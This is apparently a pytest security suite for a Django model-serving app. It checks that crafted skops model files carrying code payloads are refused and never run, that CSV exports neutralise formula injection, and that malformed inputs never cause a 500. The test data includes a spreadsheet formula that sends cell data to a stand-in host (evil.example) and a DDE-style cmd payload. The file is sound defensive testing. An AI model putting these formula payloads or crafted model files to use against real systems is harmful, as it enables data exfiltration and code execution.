"""Hostile files, cells and numbers: crafted skops files never run, CSV cells never open as
formulas, and no input a client controls yields a 500."""

import contextlib
import importlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from unittest import mock

import pytest
import skops.io as sio
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from predictor.models import ModelVersion, Prediction, Stage
from predictor.services import registry
from predictor.services.registry import artifacts, trusted_types
from predictor.tests import skops_payloads

from .conftest import client_for, redis_on, train

ROOT = Path(__file__).resolve().parents[2]
SETOSA = {"sepal_length": 5.1, "sepal_width": 3.5, "petal_length": 1.4, "petal_width": 0.2}
FEATURES = "sepal_length:numeric\nsepal_width:numeric\npetal_length:numeric\npetal_width:numeric"


def import_file(client, data: bytes, **fields):
    body = {
        "model_name": "outside",
        "task": "classification",
        "target": "species",
        "features": FEATURES,
        "file": SimpleUploadedFile("m.skops", data),
        **fields,
    }
    return client.post(reverse("admin:predictor_modelversion_import"), body)


# --- skops: an allow-list of exact types ------------------------------------------------------


@pytest.mark.parametrize("label", sorted(skops_payloads.PAYLOADS))
# The payloads call numpy's own deprecated helpers (that is what makes them dangerous).
@pytest.mark.filterwarnings("ignore::DeprecationWarning:numpy")
def test_payload_is_live_without_the_check(label, tmp_path):
    """The control: loaded with every type trusted, each crafted file runs its code."""
    if label in skops_payloads.NOT_IMPORTABLE:
        pytest.skip(f"{label}: its module does not exist in this numpy")
    marker = tmp_path / "ran"
    data = skops_payloads.PAYLOADS[label](marker)
    try:
        skops_payloads.load_without_checks(data)
    except Exception:  # the payload may fail after it ran; the marker tells
        pass
    assert marker.exists()


@pytest.mark.parametrize("label", sorted(skops_payloads.PAYLOADS))
def test_crafted_skops_import_is_refused_and_never_runs(label, manager_client, tmp_path, settings):
    marker = tmp_path / "ran"
    data = skops_payloads.PAYLOADS[label](marker)
    response = import_file(manager_client, data)
    page = response.content.decode()
    assert response.status_code == 200
    assert "outside the server&#x27;s allow-list" in page
    assert skops_payloads.DANGEROUS_TYPES[label] in page
    assert not marker.exists()
    assert not ModelVersion.objects.exists()
    assert not list(Path(settings.ARTIFACT_ROOT).glob("*.skops"))


def test_a_real_pipeline_with_one_hot_and_forest_imports(manager_client, alice):
    response = import_file(
        manager_client,
        skops_payloads.real_pipeline(),
        task="classification",
        target="label",
        features=skops_payloads.REAL_PIPELINE_FEATURES,
    )
    assert response.status_code == 302, response.content.decode()[-1500:]
    version = ModelVersion.objects.get(model__name="outside")
    assert version.artifact_format == "skops"
    row = skops_payloads.REAL_PIPELINE_ROW
    result = client_for(alice).post("/api/models/outside/predict/", {"inputs": row}, format="json")
    assert result.status_code == 200, result.json()


def test_every_shipped_name_is_a_class_not_a_function():
    """What the list admits is rebuilt from data; no name on it is a callable to run."""
    for name in trusted_types._shipped():
        module, _, attr = name.rpartition(".")
        obj = getattr(importlib.import_module(module), attr)
        assert isinstance(obj, type), name
    for name in ("numpy.testing._private.utils.runstring", "builtins.eval", "os.system"):
        assert name not in trusted_types.trusted_types()


def test_extra_types_add_exact_names(settings):
    settings.SKOPS_TRUSTED_TYPES_EXTRA = ["predictor.tests.admin.test_admin.Sneaky"]
    assert trusted_types.refused_types(type_names=["predictor.tests.admin.test_admin.Sneaky"]) == []
    assert trusted_types.refused_types(type_names=["predictor.tests.admin.test_admin.Other"]) != []


def _settings_error(**env):
    result = subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=ROOT,
        env={**os.environ, "DJANGO_DEBUG": "true", **env},
        capture_output=True,
        text=True,
        timeout=120,
    )
    return result.returncode, result.stderr


def test_the_old_prefix_setting_stops_the_start():
    code, err = _settings_error(SKOPS_TRUSTED_MODULE_PREFIXES="sklearn.,numpy.")
    assert code != 0 and "SKOPS_TRUSTED_MODULE_PREFIXES is no longer read" in err


def test_a_prefix_in_the_extra_types_stops_the_start():
    code, err = _settings_error(SKOPS_TRUSTED_TYPES_EXTRA="numpy.")
    assert code != 0 and "exact dotted type names" in err


def _stored_skops_version(iris_version, data: bytes):
    """A version imported under an older, wider rule: its stored file no longer passes."""
    stored = artifacts.artifact_store_bytes(data=data, fmt="skops")
    return registry.version_create(
        model=iris_version.model,
        stored=stored,
        algorithm="imported:Pipeline",
        schema=iris_version.schema,
        target_name="species",
        classes=iris_version.classes,
    )


def test_a_stored_artifact_outside_the_list_answers_503(iris_version, staff, tmp_path):
    marker = tmp_path / "ran"
    bad = _stored_skops_version(
        iris_version, skops_payloads.PAYLOADS["pipeline_hidden_runstring"](marker)
    )
    api = client_for(staff)
    response = api.post(
        f"/api/models/iris/versions/{bad.version}/predict/", {"inputs": SETOSA}, format="json"
    )
    assert response.status_code == 503
    body = response.json()
    assert body["model"] == "iris" and body["version"] == bad.version
    assert body["fault"] == "type not allowed" and "runstring" in body["detail"]
    v2 = api.post(f"/v2/models/iris/versions/{bad.version}/infer", _v2_body(), format="json")
    assert v2.status_code == 503 and "runstring" in v2.json()["error"]
    ready = api.get(f"/v2/models/iris/versions/{bad.version}/ready")
    assert ready.status_code == 400 and ready.json()["ready"] is False
    # Other versions keep serving.
    assert (
        api.post("/api/models/iris/predict/", {"inputs": SETOSA}, format="json").status_code == 200
    )
    assert not marker.exists()
    assert Prediction.objects.filter(version=bad).count() == 0


def test_check_artifacts_lists_what_cannot_load(iris_version, tmp_path, capsys):
    from django.core.management import CommandError, call_command

    call_command("check_artifacts")
    assert "all 1 versions load" in capsys.readouterr().out
    bad = _stored_skops_version(
        iris_version, skops_payloads.PAYLOADS["runstring"](tmp_path / "ran")
    )
    with pytest.raises(CommandError, match="1 of 2 versions cannot load"):
        call_command("check_artifacts")
    out = capsys.readouterr().out
    assert f"iris v{bad.version}" in out and "type not allowed" in out
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "damage, fault",
    [("delete", "artifact missing"), ("tamper", "hash mismatch")],
)
def test_a_broken_artifact_answers_503_on_rest_and_v2(iris_version, alice, damage, fault, settings):
    path = Path(settings.ARTIFACT_ROOT) / iris_version.artifact
    if damage == "delete":
        path.unlink()
    else:
        path.write_bytes(path.read_bytes()[:-1] + b"\x00")
    artifacts.cache_clear()
    api = client_for(alice)
    response = api.post("/api/models/iris/predict/", {"inputs": SETOSA}, format="json")
    assert response.status_code == 503
    assert response.json()["fault"] == fault and response.json()["version"] == 1
    v2 = api.post("/v2/models/iris/infer", _v2_body(), format="json")
    assert v2.status_code == 503 and "error" in v2.json()
    assert api.get("/v2/models/iris/ready").json()["ready"] is False
    assert not Prediction.objects.exists()


def test_a_crafted_tree_with_wild_indices_is_refused(manager_client):
    from sklearn.tree import DecisionTreeClassifier

    tree = DecisionTreeClassifier(random_state=0).fit([[0], [1], [2], [3]], [0, 0, 1, 1])
    data = sio.dumps(tree)
    # Point a child index far outside the tree, as a crafted file could.
    import zipfile

    import numpy as np

    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename.endswith(".npy"):
                array = np.load(io.BytesIO(content), allow_pickle=False)
                if array.dtype.names and "left_child" in array.dtype.names:
                    array["left_child"][0] = 10_000
                    buffer = io.BytesIO()
                    np.save(buffer, array, allow_pickle=False)
                    content = buffer.getvalue()
            target.writestr(item, content)
    response = import_file(manager_client, out.getvalue(), target="y", features="x:numeric")
    page = response.content.decode()
    assert "model.tree_.children_left[0]" in page and "out of range" in page
    assert not ModelVersion.objects.exists()


# --- CSV cells --------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_history_export_defuses_formulas_and_keeps_numbers(credit_dataset, alice):
    train(credit_dataset, model="credit", algorithm="decision_tree")
    row = {
        "age": -1.5,
        "income": 30000,
        "loan_amount": 1000,
        "duration_months": 12,
        "housing": FORMULA,
        "purpose": "@SUM(1+1)*cmd|' /C calc'!A0",
        "employment": "employed",
    }
    api = client_for(alice)
    response = api.post(
        "/api/models/credit/predict/",
        {"inputs": row},
        format="json",
        HTTP_X_REQUEST_ID="=1+1",
    )
    assert response.status_code == 200, response.json()
    assert response["X-Request-ID"] != "=1+1"
    export = b"".join(api.get("/api/predictions/?format=csv").streaming_content).decode()
    import csv

    cells = [c for line in csv.reader(io.StringIO(export)) for c in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
    assert not [c for c in cells if c.startswith("-") and not _is_number(c)]
    assert "-1.5" in export  # a number stays a number


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_batch_results_defuse_formulas(credit_dataset, client, alice):
    train(credit_dataset, model="credit", algorithm="decision_tree")
    client.force_login(alice)
    header = "age,income,loan_amount,duration_months,housing,purpose,employment"
    body = f'{header}\n-1.5,30000,1000,12,"{FORMULA.replace(chr(34), chr(34) * 2)}",+cmd,employed\n'
    page = client.post(
        "/models/credit/batch/", {"file": SimpleUploadedFile("x.csv", body.encode())}
    ).content.decode()
    import re

    link = re.search(r'id="download" href="([^"]+)"', page).group(1)
    import csv

    text = client.get(link).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "-1.5"
    assert rows[1][4] == "'" + FORMULA and rows[1][5] == "'+cmd"


@pytest.mark.parametrize(
    "given, kept",
    [("req-42.a:b_c", True), ("=HYPERLINK(1)", False), ("a" * 65, False), ("a b", False)],
)
def test_request_id_is_taken_only_when_safe(iris_version, anon_client, given, kept):
    response = anon_client.post(
        "/api/models/iris/predict/", {"inputs": SETOSA}, format="json", HTTP_X_REQUEST_ID=given
    )
    used = response["X-Request-ID"]
    assert (used == given) is kept
    assert Prediction.objects.get().request_id == used


# --- no 500 on any input ----------------------------------------------------------------------

BIG = "9" * 400
IRIS_JSON = '{"inputs": {"sepal_length": VALUE, "sepal_width": 3.5, "petal_length": 1.4, "petal_width": 0.2}}'


def _v2_body(value=5.1):
    return {
        "inputs": [
            {"name": "input-0", "shape": [1, 4], "datatype": "FP64", "data": [value, 3.5, 1.4, 0.2]}
        ]
    }


HOSTILE_JSON = [
    (IRIS_JSON.replace("VALUE", BIG), "64-bit float"),
    (IRIS_JSON.replace("VALUE", "1e400"), "finite"),
    (IRIS_JSON.replace("VALUE", "5.1").replace("}}", ', "x\\u0000": 1}}'), "NUL"),
    (IRIS_JSON.replace("VALUE", '"\\u0000"'), "NUL"),
    (IRIS_JSON.replace("VALUE", '"' + "x" * 10_000 + '"'), "sepal_length"),
    ('{"data": [[VALUE, 3.5, 1.4, 0.2]]}'.replace("VALUE", BIG), "64-bit float"),
]


@pytest.mark.parametrize("body, says", HOSTILE_JSON)
def test_hostile_json_bodies_are_400_and_log_nothing(iris_version, alice, body, says):
    api = client_for(alice)
    response = api.post("/api/models/iris/predict/", body, content_type="application/json")
    assert response.status_code == 400, response.content
    assert says in json.dumps(response.json())
    assert not Prediction.objects.exists()


@pytest.mark.parametrize("value", [BIG, "1e400", '"\\u0000"', '"' + "y" * 10_000 + '"'])
def test_hostile_v2_tensors_are_400(iris_version, alice, value):
    body = json.dumps(_v2_body()).replace("5.1", value)
    response = client_for(alice).post(
        "/v2/models/iris/infer", body, content_type="application/json"
    )
    assert response.status_code == 400 and "error" in response.json()
    assert not Prediction.objects.exists()


@pytest.mark.parametrize("value", ["-0", "1e-400", "-0.0"])
def test_neighbours_that_are_valid_numbers_are_served(iris_version, alice, value):
    body = '{"data": [[VALUE, 3.5, 1.4, 0.2]]}'.replace("VALUE", value)
    response = client_for(alice).post(
        "/api/models/iris/predict/", body, content_type="application/json"
    )
    assert response.status_code == 200
    assert Prediction.objects.get().inputs["sepal_length"] == 0.0


@pytest.mark.parametrize(
    "body, status",
    [
        ("\ufeffsepal_length,sepal_width,petal_length,petal_width\r\n5.1,3.5,1.4,0.2\r\n", 200),
        ("sepal_length,sepal_width,petal_length,petal_width\n5.1,3.5,1.4,\x00\n", 400),
        ("sepal_length,sepal_width,petal_length,petal_width\n" + BIG + ",3.5,1.4,0.2\n", 400),
    ],
)
def test_csv_bodies_bom_crlf_nul(iris_version, alice, body, status):
    response = client_for(alice).post(
        "/api/models/iris/predict/", body.encode(), content_type="text/csv"
    )
    assert response.status_code == status, response.content
    assert response["Content-Type"].startswith("application/json")
    assert Prediction.objects.count() == (1 if status == 200 else 0)


@pytest.mark.parametrize(
    "path",
    [
        "/api/models/iris%00/",
        "/api/models/iris%00/predict/",
        "/v2/models/iris%00/infer",
        "/api/predictions/?model=iris%00",
        "/api/predictions/?since=2026-01-01%00",
    ],
)
def test_nul_in_a_path_or_query_is_a_json_400(iris_version, staff, path):
    api = client_for(staff)
    response = (
        api.post(path, {"inputs": SETOSA}, format="json")
        if "predict" in path or "infer" in path
        else api.get(path)
    )
    assert response.status_code == 400
    assert "NUL" in json.dumps(response.json())
    assert not Prediction.objects.exists()


def test_nul_in_a_page_path_is_a_400_page(iris_version, client):
    response = client.get("/models/iris%00/")
    assert response.status_code == 400 and b"NUL" in response.content


def test_nul_in_a_form_field_is_a_form_error(iris_version, client):
    form = {k: str(v) for k, v in SETOSA.items()}
    form["sepal_length"] = "5\x00"
    response = client.post("/models/iris/", {**form, "version": 1})
    assert response.status_code == 400
    assert not Prediction.objects.exists()


@pytest.mark.parametrize(
    "value",
    [
        "2026-01-01T00:00:00+16:57",
        "2026-01-01T00:00:00 16:57",
        "0001-01-01T00:00:00+14:00",
        "2026-13-01",
        "yesterday",
        "2026-01-01T25:00",
    ],
)
def test_bad_timestamps_are_400_naming_the_field(staff, value):
    response = client_for(staff).get("/api/predictions/", {"since": value})
    assert response.status_code == 400 and "since" in response.json()


def test_a_good_offset_and_an_unencoded_plus_are_read(staff):
    api = client_for(staff)
    assert api.get("/api/predictions/", {"since": "2026-01-01T00:00:00+05:30"}).status_code == 200
    assert api.get("/api/predictions/?since=2026-01-01T00:00:00+05:30").status_code == 200


@pytest.mark.parametrize(
    "extra, field, says",
    [
        ({"random_state": 2**80}, "random_state", "4294967295"),
        ({"random_state": -1}, "random_state", "4294967295"),
        ({"params": {"n_estimators": 10_000_000}}, "params", "2000"),
        ({"params": {"max_depth": 101}}, "params", "100"),
        ({"params": {"n_jobs": -1}}, "params", "n_jobs"),
        ({"search_space": {"n_estimators": [10, 5000]}}, "search_space", "2000"),
    ],
)
def test_training_bounds_are_400_naming_the_field(iris_dataset, staff, extra, field, says):
    body = {"dataset": iris_dataset.pk, "model": "forest", "algorithm": "random_forest", **extra}
    response = client_for(staff).post("/api/training-jobs/", body, format="json")
    assert response.status_code == 400, response.json()
    assert field in json.dumps(response.json()) and says in json.dumps(response.json())


@pytest.mark.parametrize(
    "algorithm, params, says",
    [
        ("logistic_regression", {"max_iter": 100_001}, "100000"),
        ("mlp", {"hidden_layer_sizes": [4000, 200]}, "4096"),
        ("mlp", {"hidden_layer_sizes": 5000}, "4096"),
        ("mlp", {"max_iter": 200_000}, "100000"),
        ("knn", {"n_neighbors": 5000}, "1000"),
    ],
)
def test_contract_bounds_for_other_algorithms(iris_dataset, staff, algorithm, params, says):
    body = {"dataset": iris_dataset.pk, "model": "m", "algorithm": algorithm, "params": params}
    response = client_for(staff).post("/api/training-jobs/", body, format="json")
    assert response.status_code == 400 and says in json.dumps(response.json())


# --- outages ----------------------------------------------------------------------------------


@contextlib.contextmanager
def database_down():
    """Every new cursor fails as it does when the server cannot be reached."""
    from django.db import OperationalError
    from django.db.backends.base.base import BaseDatabaseWrapper

    def refuse(self, *args, **kwargs):
        raise OperationalError("connection to server at 127.0.0.1 failed: Connection refused")

    with mock.patch.object(BaseDatabaseWrapper, "_cursor", refuse):
        yield


def test_database_down_answers_503_json_on_the_api(iris_version, alice):
    api = client_for(alice)
    with database_down():
        for method, path in [
            ("post", "/api/models/iris/predict/"),
            ("get", "/api/models/"),
            ("get", "/api/predictions/"),
        ]:
            response = getattr(api, method)(path, {"inputs": SETOSA}, format="json")
            assert response.status_code == 503, path
            assert response["Retry-After"] and "database" in response.json()["detail"]
        response = api.post("/v2/models/iris/infer", _v2_body(), format="json")
    assert response.status_code == 503 and "database" in response.json()["error"]
    assert not Prediction.objects.exists()


def test_database_down_answers_a_503_page(iris_version, client):
    with database_down():
        response = client.get("/models/iris/")
    assert response.status_code == 503 and response["Retry-After"]
    assert b"try again" in response.content and b"Traceback" not in response.content


# --- stages -----------------------------------------------------------------------------------


@pytest.fixture
def archived_and_unstaged(iris_dataset, iris_version):
    v2 = train(iris_dataset, algorithm="knn")  # stage none
    v3 = train(iris_dataset, algorithm="decision_tree")
    registry.version_promote(version=v3, stage=Stage.STAGING)
    registry.version_promote(version=v2, stage=Stage.PRODUCTION)  # v1 → archived
    v4 = train(iris_dataset, algorithm="knn")
    return {"archived": 1, "none": v4.version, "staging": v3.version, "production": v2.version}


def test_archived_and_unstaged_versions_serve_staff_only(
    archived_and_unstaged, alice, staff, anon_client, client
):
    stages = archived_and_unstaged
    assert ModelVersion.objects.get(version=stages["archived"]).stage == Stage.ARCHIVED
    user, boss = client_for(alice), client_for(staff)
    for stage, number in stages.items():
        hidden = stage in ("archived", "none")
        for api in (anon_client, user):
            rest = api.post(
                f"/api/models/iris/versions/{number}/predict/", {"inputs": SETOSA}, format="json"
            )
            query = api.post(
                f"/api/models/iris/predict/?version={number}", {"inputs": SETOSA}, format="json"
            )
            v2 = api.post(f"/v2/models/iris/versions/{number}/infer", _v2_body(), format="json")
            for response in (rest, query, v2):
                assert response.status_code == (404 if hidden else 200), (stage, response.content)
        assert (
            boss.post(
                f"/api/models/iris/versions/{number}/predict/", {"inputs": SETOSA}, format="json"
            ).status_code
            == 200
        )
    client.force_login(alice)
    assert client.get(f"/models/iris/?version={stages['archived']}").status_code == 404
    assert client.get(f"/models/iris/batch/?version={stages['none']}").status_code == 404
    assert client.get(f"/models/iris/?version={stages['staging']}").status_code == 200
    client.force_login(staff)
    assert client.get(f"/models/iris/?version={stages['archived']}").status_code == 200


# --- the cache on Redis -----------------------------------------------------------------------


def test_the_cache_works_on_redis(settings, iris_version, anon_client):
    redis_on(settings, 14)
    from django.core.cache import cache

    cache.set("mlsite-test", {"a": 1}, 10)
    assert cache.get("mlsite-test") == {"a": 1}
    # The API's throttling counters live in this cache: a request goes through.
    response = anon_client.post("/api/models/iris/predict/", {"inputs": SETOSA}, format="json")
    assert response.status_code == 200
    cache.delete("mlsite-test")


def test_an_overlong_url_is_a_json_414(anon_client):
    response = anon_client.get("/api/models/", {"x": "a" * 9000})
    assert response.status_code == 414 and "longer than" in response.json()["detail"]
